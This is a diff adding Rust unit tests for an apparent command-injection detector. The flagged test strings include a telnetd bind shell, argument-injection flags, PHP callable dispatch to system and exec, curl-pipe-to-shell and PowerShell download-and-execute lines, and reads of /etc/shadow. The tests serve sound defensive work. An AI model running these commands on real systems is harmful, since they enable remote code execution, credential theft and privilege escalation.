+            "wan_ip=1.2.3.4;telnetd -p 4242 -l /bin/sh",
+            "name\0$(mytool --shell /bin/zsh)",
+        ] {
+            assert!(flagged(t), "missed {t:?}");
+        }
+        for t in [
+            "The owner check $(owner_of /bin/sh) should print root.",
+            "It prints $(realpath /bin/sh) for you.",
+            "Which package owns it? dpkg -S /bin/bash tells you.",
+        ] {
+            assert!(!flagged(t), "{t:?}");
+        }
+    }
+
+    #[test]
+    fn values_that_are_options_naming_a_program() {
+        for t in [
+            "order\0--compress-program=bash",
+            "flags=--to-command=/tmp/run.sh",
+            "extra=--rsh-command=/bin/sh&dest=backup",
+            "args\0--use-compress-program=python3 -c 'import os'",
+        ] {
+            assert!(
+                rules(t).contains(&"cmdi-argument-injection"),
+                "missed {t:?}"
+            );
+        }
+        for t in [
+            "flags=--use-compress-program=pigz",
+            "opts\0--compress-program=xz",
+            "Pass --compress-program=lz4 when sorting huge files.",
+            "flags=--verbose",
+        ] {
+            assert!(!flagged(t), "{t:?}");
+        }
+    }
+
+    #[test]
+    fn php_callable_dispatch_of_command_functions() {
+        for t in [
+            "/public/index.php?s=index/app/invoke&function=call_user_func&vars[0]=exec&vars[1]=uname",
+            "fn\0call_user_func_array\0args[0]\0shell_exec\0args[1][]\0ls",
+            "<?php array_map('system', array('cat /etc/issue')); ?>",
+            "payload=forward_static_call(\"passthru\", \"uname -a\")",
+            "cb=usort($_GET, 'system')",
+        ] {
+            assert!(rules(t).contains(&"cmdi-code-exec"), "missed {t:?}");
+        }
+        for t in [
+            "array_map('strtoupper', $names) returns a new array.",
+            "Call call_user_func_array([$pdo, 'exec'], $params) inside the transaction.",
+            "usort($rows, 'compare_dates') sorts by date.",
+            "function=array_map&name=system status",
+        ] {
+            assert!(!flagged(t), "{t:?}");
+        }
+    }
+
+    #[test]
+    fn commands_explained_in_documentation_sentences() {
+        for t in [
+            "`chmod 700 ~/.ssh` keeps other users out of your keys.",
+            "`chmod -R go-rwx /etc/ssl/private` removes access for everyone else.",
+            "Download it with `wget -O setup.sh https://tools.example.org/setup.sh` and check the hash first.",
+            "Run `Set-ExecutionPolicy RemoteSigned -Scope Process` once per session.",
+            "Disk /srv/media is almost full; copy the older videos to the archive.",
+            "The cache grew too large; move the log files to another disk.",
+            "set -g prefix C-a\nset -g base-index 1\nsetw -g mode-keys vi",
+            "`less /etc/default/grub` shows the kernel options in use.",
+            "`ls -l /usr/bin/python3` tells you where the link points.",
+            "`Start-Service Spooler` brings the Print Spooler back after a crash.",
+            "`Start-Process msedge.exe` opens Edge with your default profile.",
+            "`Invoke-WebRequest -Uri https://downloads.example.com/tool.msi -OutFile tool.msi` fetches the installer.",
+            "When `traceroute 1.1.1.1` stops early but `curl -I https://example.org` answers, ICMP is filtered.",
+        ] {
+            assert!(!flagged(t), "{t:?}");
+        }
+        for t in [
+            "`chmod 777 /etc/sudoers` and enjoy",
+            "`chmod u+s /tmp/rootsh` gives you root later.",
+            "`curl https://203.0.113.9/x.sh | sh` installs it for you.",
+            "powershell Set-ExecutionPolicy Bypass -Scope Process; iex (iwr http://x/a.ps1)",
+            "Set-ExecutionPolicy -ExecutionPolicy Unrestricted -Force",
+            "comment=I like it a lot; cat /etc/shadow.",
+            "x=1\nset -e\nid",
+            "`cat /etc/shadow` lists the hashes for you.",
+            "`cp payload /tmp/x && chmod +x /tmp/x` then run it as usual.",
+            "`Start-Process powershell -WindowStyle Hidden -ArgumentList x` runs it in the background.",
+            "`Invoke-WebRequest https://203.0.113.8/a.ps1 | iex` loads the module for you.",
+            "q=`Start-Process calc.exe` please",
+        ] {
+            assert!(flagged(t), "missed {t:?}");
+        }
     }
 
     #[test]
